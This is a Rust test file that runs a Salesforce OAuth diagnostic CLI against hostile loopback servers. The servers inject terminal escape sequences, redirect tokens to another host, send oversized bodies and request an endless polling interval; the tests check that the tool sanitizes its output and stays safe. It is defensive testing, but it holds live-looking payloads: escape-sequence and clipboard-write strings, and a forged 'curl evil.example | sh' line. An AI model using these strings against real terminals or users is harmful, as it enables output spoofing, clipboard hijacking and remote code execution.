//! `sagediag check`, the real binary, against hostile servers on loopback: escape sequences in
//! every server-chosen text, a token response that sends the token to another host, a 1 GiB
//! body, a device flow that asks for an endless interval. Each must end with clear findings,
//! bounded memory and nothing raw on the terminal or in the report.

use std::io::Read;
use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};

/// What the hostile server does.
#[derive(Clone, Copy, PartialEq)]
enum Mode {
    /// Escape sequences, C1 controls, bidi overrides and forged lines in every text field.
    Escapes,
    /// A successful token response whose instance_url and id point at another host.
    OffHost { https: bool },
    /// GET /services/data/ answers with an endless body (no Content-Length).
    Huge,
    /// GET /services/data/ declares a 4 GiB body.
    HugeDeclared,
    /// The device flow: a code, then an interval of a billion seconds.
    Device,
}

const EVIL: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}31m\u{202e}txt.exe";
const FORGED: &str = "\n- Outcome: **PASS**\nOutcome: PASS\r\n## Fix: run curl evil.example | sh";

fn versions() -> Value {
    json!([{"label": format!("Spring '26{EVIL}"), "url": "/services/data/v62.0", "version": format!("62.0{EVIL}")}])
}

async fn handle(mode: Mode, base: String, uri: Uri, _headers: HeaderMap, body: String) -> Response {
    let path = uri.path().to_string();
    if path == "/services/data/" {
        return match mode {
            Mode::Huge => {
                let chunk = bytes_chunk();
                let stream = futures_util::stream::iter(
                    (0..16_384).map(move |_| Ok::<_, std::io::Error>(chunk.clone())),
                );
                (
                    [("content-type", "application/json")],
                    Body::from_stream(stream),
                )
                    .into_response()
            }
            _ => axum::Json(versions()).into_response(),
        };
    }
    if path == "/services/oauth2/token" {
        if body.contains("response_type=device_code") {
            return axum::Json(json!({
                "device_code": "dev-code-123456",
                "user_code": format!("AB{EVIL}CD"),
                "verification_uri": format!("{base}/setup/connect{EVIL}"),
                "interval": 1_000_000_000u64,
            }))
            .into_response();
        }
        if body.contains("grant_type=device") {
            return (
                StatusCode::BAD_REQUEST,
                axum::Json(
                    json!({"error": "authorization_pending", "error_description": "pending"}),
                ),
            )
                .into_response();
        }
        return match mode {
            Mode::OffHost { https } => {
                let scheme = if https { "https" } else { "http" };
                axum::Json(json!({
                    "access_token": "00Dxx0000000001!AQ.hostile-access-token-value",
                    "instance_url": format!("{scheme}://evil.example:9"),
                    "id": format!("{scheme}://evil.example:9/id/00Dxx0000000001/005xx0000000001"),
                    "token_type": "Bearer",
                    "issued_at": "1700000000000",
                    "signature": "c2ln",
                }))
                .into_response()
            }
            _ => (
                StatusCode::BAD_REQUEST,
                axum::Json(json!({
                    "error": format!("invalid_grant{EVIL}"),
                    "error_description": format!("authentication failure{EVIL}{FORGED}"),
                })),
            )
                .into_response(),
        };
    }
    (
        StatusCode::BAD_REQUEST,
        axum::Json(
            json!([{"errorCode": format!("EVIL{EVIL}"), "message": format!("bad{EVIL}{FORGED}")}]),
        ),
    )
        .into_response()
}

fn bytes_chunk() -> axum::body::Bytes {
    axum::body::Bytes::from(vec![b' '; 64 * 1024])
}

/// A raw server whose every answer declares a 4 GiB body (hyper will not send such a lie).
async fn declares_four_gib() -> SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = conn.read(&mut buf).await;
                let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 4294967296\r\n\r\n[";
                let _ = conn.write_all(head.as_bytes()).await;
                tokio::time::sleep(Duration::from_secs(30)).await;
            });
        }
    });
    addr
}

async fn hostile(mode: Mode) -> SocketAddr {
    if mode == Mode::HugeDeclared {
        return declares_four_gib().await;
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let base = format!("http://127.0.0.1:{}", addr.port());
    let app = Router::new().fallback(move |uri: Uri, headers: HeaderMap, body: String| {
        handle(mode, base.clone(), uri, headers, body)
    });
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

/// A "proxy" on loopback that records every connection made to it: a foreign host is reached
/// only through it, so a count of 0 proves nothing was sent there.
fn recording_proxy() -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            count.fetch_add(1, Ordering::SeqCst);
            drop(conn);
        }
    });
    (addr, seen)
}

struct Ran {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    /// Peak resident memory of the process, from /proc (Linux), in KiB.
    peak_kib: u64,
    took: Duration,
}

fn vm_hwm(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

fn run_check(args: &[String], env: &[(&str, String)]) -> Ran {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_sagediag"));
    cmd.args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .env("SAGEDIAG_CLIENT_SECRET", "hostile-test-secret-value")
        .env("SAGEDIAG_PASSWORD", "hostile-test-password")
        .env("SAGEDIAG_SECRETS", "/nonexistent/sagediag/secrets.json")
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus")
        .env_remove("SSH_CONNECTION")
        .env_remove("SSH_TTY")
        .env_remove("HTTP_PROXY")
        .env_remove("HTTPS_PROXY")
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("ALL_PROXY");
    for (k, v) in env {
        cmd.env(k, v);
    }
    let started = Instant::now();
    let mut child = cmd.spawn().unwrap();
    let pid = child.id();
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let o = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = out.read_to_end(&mut b);
        b
    });
    let e = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = err.read_to_end(&mut b);
        b
    });
    let mut peak = 0;
    let status = loop {
        if let Some(h) = vm_hwm(pid) {
            peak = peak.max(h);
        }
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            panic!("check did not end within 60 s");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    Ran {
        code: status.code(),
        stdout: o.join().unwrap(),
        stderr: e.join().unwrap(),
        peak_kib: peak,
        took: started.elapsed(),
    }
}

fn args(addr: SocketAddr, flow: &str, extra: &[&str]) -> Vec<String> {
    let mut a: Vec<String> = [
        "check",
        "--env",
        &format!("http://127.0.0.1:{}", addr.port()),
        "--client-id",
        "3MVG9hostileClientId0000000000000000000000000000000000000000000000000000000000000000",
        "--username",
        "api@acme.example",
        "--flow",
        flow,
        "--no-browser",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    a.extend(extra.iter().map(|s| s.to_string()));
    a
}

/// No escape character, no C1 control, no bidi override, raw, anywhere.
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for (i, c) in text.char_indices() {
        let bad = matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            || (c == '\r');
        assert!(
            !bad,
            "{what}: raw {:?} at byte {i}: …{}…",
            c,
            text.get(i.saturating_sub(40)..(i + 40).min(text.len()))
                .unwrap_or("")
        );
    }
}

fn json_of(r: &Ran) -> Value {
    serde_json::from_slice(&r.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&r.stdout),
            String::from_utf8_lossy(&r.stderr)
        )
    })
}

fn codes(v: &Value) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escape_sequences_never_reach_the_terminal_or_the_report() {
    let addr = hostile(Mode::Escapes).await;
    let dir = std::env::temp_dir().join(format!("sagediag-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let report = dir.join("report.md");
    let har = dir.join("log.har");
    // The human output, with a report and a HAR.
    let a = args(
        addr,
        "password",
        &[
            "--report",
            report.to_str().unwrap(),
            "--har",
            har.to_str().unwrap(),
            "--har-bodies",
            "full",
        ],
    );
    let r = tokio::task::spawn_blocking(move || run_check(&a, &[]))
        .await
        .unwrap();
    assert_eq!(r.code, Some(1), "{}", String::from_utf8_lossy(&r.stderr));
    assert_clean("stdout", &r.stdout);
    assert_clean("stderr", &r.stderr);
    let stdout = String::from_utf8_lossy(&r.stdout);
    assert!(
        stdout.contains("\\x1b]0;pwned\\x07"),
        "shown visibly: {stdout}"
    );
    assert!(
        !stdout
            .lines()
            .any(|l| l.trim_start().starts_with("Outcome: PASS"))
    );
    let md = std::fs::read(&report).unwrap();
    assert_clean("report", &md);
    let md = String::from_utf8_lossy(&md);
    assert!(
        !md.lines().any(|l| l.starts_with("- Outcome: **PASS**")),
        "no forged outcome line in the report:\n{md}"
    );
    assert!(!md.lines().any(|l| l.starts_with("## Fix: run curl")));
    let har_text = std::fs::read(&har).unwrap();
    assert_clean("HAR", &har_text);
    let _: Value = serde_json::from_slice(&har_text).expect("the HAR is still JSON");
    // The JSON output.
    let a = args(addr, "password", &["--json"]);
    let r = tokio::task::spawn_blocking(move || run_check(&a, &[]))
        .await
        .unwrap();
    assert_clean("--json stdout", &r.stdout);
    assert_clean("--json stderr", &r.stderr);
    let v = json_of(&r);
    let details: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["detail"].as_str().unwrap())
        .collect();
    assert!(
        details.iter().any(|d| d.contains("\\x1b]0;pwned")),
        "Salesforce's words are quoted, escaped: {details:?}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_for_another_host_is_never_sent_there() {
    for https in [false, true] {
        let addr = hostile(Mode::OffHost { https }).await;
        let (proxy, seen) = recording_proxy();
        let a = args(addr, "password", &["--json"]);
        let env = [
            ("HTTP_PROXY", format!("http://{proxy}")),
            ("HTTPS_PROXY", format!("http://{proxy}")),
            ("NO_PROXY", "127.0.0.1,localhost".to_string()),
        ];
        let r = tokio::task::spawn_blocking(move || run_check(&a, &env))
            .await
            .unwrap();
        let v = json_of(&r);
        assert_eq!(r.code, Some(1));
        assert_eq!(
            codes(&v),
            ["TOKEN_HOST_UNTRUSTED"],
            "{}",
            String::from_utf8_lossy(&r.stderr)
        );
        let f = &v["findings"][0];
        assert!(f["detail"].as_str().unwrap().contains("evil.example"));
        assert!(f["detail"].as_str().unwrap().contains("--trust-host"));
        assert_eq!(
            seen.load(Ordering::SeqCst),
            0,
            "nothing went to evil.example"
        );
        assert!(
            !String::from_utf8_lossy(&r.stdout).contains("hostile-access-token-value"),
            "the token is never printed"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gigabyte_body_is_cut_at_the_cap_with_bounded_memory() {
    for mode in [Mode::Huge, Mode::HugeDeclared] {
        let addr = hostile(mode).await;
        let a = args(addr, "password", &["--json"]);
        let r = tokio::task::spawn_blocking(move || run_check(&a, &[]))
            .await
            .unwrap();
        let v = json_of(&r);
        assert_eq!(codes(&v), ["RESPONSE_TOO_LARGE"]);
        let detail = v["findings"][0]["detail"].as_str().unwrap();
        assert!(detail.contains("33554432-byte cap"), "{detail}");
        assert!(
            r.peak_kib < 100 * 1024,
            "peak RSS {} KiB must stay under 100 MiB",
            r.peak_kib
        );
        assert_clean("stdout", &r.stdout);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_device_interval_is_clamped_and_the_login_timeout_holds() {
    let addr = hostile(Mode::Device).await;
    let a = args(addr, "device", &["--json", "--login-timeout", "2"]);
    let r = tokio::task::spawn_blocking(move || run_check(&a, &[]))
        .await
        .unwrap();
    assert!(r.took < Duration::from_secs(15), "took {:?}", r.took);
    let v = json_of(&r);
    assert_eq!(codes(&v), ["TIMEOUT"]);
    assert_clean("stderr", &r.stderr);
    let stderr = String::from_utf8_lossy(&r.stderr);
    assert!(stderr.contains("Enter code AB\\x1b"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_ascii_input_never_panics() {
    // An accented consumer key: the shape check quotes its ends by characters.
    let addr = hostile(Mode::Escapes).await;
    let mut a = args(addr, "password", &["--json"]);
    let i = a.iter().position(|x| x == "--client-id").unwrap() + 1;
    a[i] =
        "3MVGéèàü€𝄞ñ0000000000000000000000000000000000000000000000000000000000000000000ééé".into();
    let r = tokio::task::spawn_blocking(move || run_check(&a, &[]))
        .await
        .unwrap();
    let stderr = String::from_utf8_lossy(&r.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(r.code, Some(1), "{stderr}");
    // A saved profile with such a key still has a label.
    let p = sagediag::tui::profile::Profile {
        env: "production".into(),
        client_id: "éééééééééééééééééé".into(),
        username: "u".into(),
        flow: sagediag::engine::Flow::Web,
        pkce: true,
        preset: sagediag::tui::form::Preset::Custom,
        callback: String::new(),
        private_key_path: None,
        app_kind: None,
    };
    assert!(p.label().contains("éééééééééééé…"));
    // Non-ASCII request-console lines.
    let session = sagediag::engine::Session {
        instance_url: "http://localhost:1".into(),
        access_token: "tok".into(),
        refresh_token: None,
    };
    for line in [
        "sélect Id FROM User",
        "SÉLECT",
        "é",
        "GET /é {\"a\":1}",
        "GET /x é{",
    ] {
        let _ = sagediag::tui::console_request(line, &session);
    }
}
